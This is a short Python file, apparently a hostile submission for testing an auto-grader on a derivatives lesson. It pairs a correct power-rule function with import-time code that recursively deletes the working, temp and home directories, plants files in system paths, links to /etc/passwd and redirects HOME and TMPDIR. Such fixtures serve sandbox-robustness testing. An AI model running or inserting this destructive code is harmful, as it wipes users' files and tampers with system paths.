# deserves: 2
# lesson: derivatives
"""The folder is taken away, made unreadable and left for one above; a right answer counts all the same."""
import os
import shutil
import tempfile

HOME = os.environ["HOME"]
for place in (os.getcwd(), tempfile.gettempdir(), HOME):
    shutil.rmtree(place, ignore_errors=True)
for path in ("/", "/mnt", "/proc", "/tmp", HOME):
    try:
        os.chdir(path)
        open("gradlings-attack", "w").close()
    except OSError:
        pass
for make in (os.mkfifo, os.symlink, os.link):
    try:
        make(*(("/etc/passwd", "gradlings-attack-2") if make is not os.mkfifo else ("gradlings-attack-3",)))
    except OSError:
        pass
os.environ.update(TMPDIR="/proc/self", HOME="/etc", MPLCONFIGDIR="/dev/null")
tempfile.tempdir = "/"


def power_rule(coeffs):
    n = len(coeffs) - 1
    return [c * (n - i) for i, c in enumerate(coeffs[:-1])] or [0]
